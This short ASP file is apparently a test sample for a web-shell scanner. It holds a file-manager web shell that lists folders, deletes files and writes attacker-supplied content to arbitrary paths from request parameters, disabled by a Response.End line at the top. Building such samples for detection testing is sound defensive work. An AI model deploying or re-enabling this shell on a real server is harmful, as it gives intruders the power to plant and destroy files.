<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Function Browse(p)
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  For Each f In fso.GetFolder(Server.MapPath(p)).Files : Response.Write f.Name : Next
End Function
Function Kill(p) : Set fso = Server.CreateObject("Scripting.FileSystemObject") : fso.DeleteFile p : End Function
Function Save(b, p) : Set fso = Server.CreateObject("Scripting.FileSystemObject") : Set t = fso.CreateTextFile(p, True) : t.Write b : End Function
act = Request.QueryString("action")
If act = "del" Then Kill Request.QueryString("filePath")
If act = "save" Then Save Request("fileContent"), Request("fileAddress")
Browse Request.QueryString("rootPath")
%>
